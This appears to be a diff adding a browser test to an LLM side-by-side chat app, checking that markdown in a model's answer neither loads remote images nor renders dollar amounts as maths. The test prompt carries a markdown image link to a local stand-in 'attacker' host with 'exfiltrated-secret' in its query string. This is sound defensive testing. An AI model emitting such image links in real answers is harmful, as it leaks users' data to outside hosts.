@@ -132,3 +132,84 @@ def test_two_models_stream_side_by_side_vote_and_history_after_restart(browser, 
         page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
         print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
         raise
+
+
+class _ImageHost:
+    """A local HTTP server standing in for an attacker's image host: it counts every request."""
+
+    PNG = bytes.fromhex(
+        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
+        "0000000d49444154789c6360000002000100e221bc330000000049454e44ae426082"
+    )
+
+    def __enter__(self) -> _ImageHost:
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        host = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802
+                host.hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.send_header("Content-Length", str(len(_ImageHost.PNG)))
+                self.end_headers()
+                self.wfile.write(_ImageHost.PNG)
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.hits: list[str] = []
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        import threading
+
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+        return self
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.httpd.server_address[1]}"
+
+    def __exit__(self, *exc) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+def test_an_answer_with_a_remote_image_and_dollars_fetches_nothing_and_renders_no_maths(
+    browser, protocol_server, tmp_path, request
+):
+    # the shipped `smollm2` entry is pointed at the protocol server's echo model, so the default
+    # column answers with the prompt itself: the image and the amounts are in prompt and answer
+    user_file = tmp_path / "endpoints.user.toml"
+    user_file.write_text(
+        f'[endpoints.smollm2]\nbase_url = "{protocol_server.url}"\nmodel = "echo"\nkind = "local"\n\n'
+        "[endpoints.smollm2-guarded]\nenabled = false\n"
+    )
+    env = {**os.environ, "PARALLAX_USER_ENDPOINTS": str(user_file), "PYTHONUNBUFFERED": "1"}
+    log = tmp_path / "streamlit.log"
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    page = browser.new_page(viewport={"width": 1400, "height": 1000})
+    try:
+        with _ImageHost() as images, App(env, log) as app:
+            prompt = f"It costs $5 and $10 ![chart]({images.url}/pixel.png?d=exfiltrated-secret) today"
+            seen = []
+            page.on("request", lambda r: seen.append(r.url) if r.url.startswith(images.url) else None)
+            page.goto(app.url)
+            box = page.get_by_test_id("stChatInputTextArea")
+            box.wait_for(timeout=60_000)
+            box.fill(prompt)
+            box.press("Enter")
+            answer = page.locator("[class*='st-key-answer_']").first
+            answer.wait_for(timeout=60_000)
+            answer.get_by_text("today", exact=False).wait_for(timeout=30_000)  # the answer's last word
+            page.wait_for_timeout(1500)  # time for any image request to go out
+            page.screenshot(path=str(ARTIFACTS / "untrusted_markdown.png"), full_page=True)
+            assert images.hits == [] and seen == []
+            assert page.locator(".katex, .katex-display, math").count() == 0
+            assert page.locator("img[src*='pixel.png']").count() == 0
+            text = answer.inner_text()
+            assert "It costs $5 and $10" in text and "image not loaded" in text and "exfiltrated-secret" in text
+    except BaseException:
+        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
+        print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
+        raise
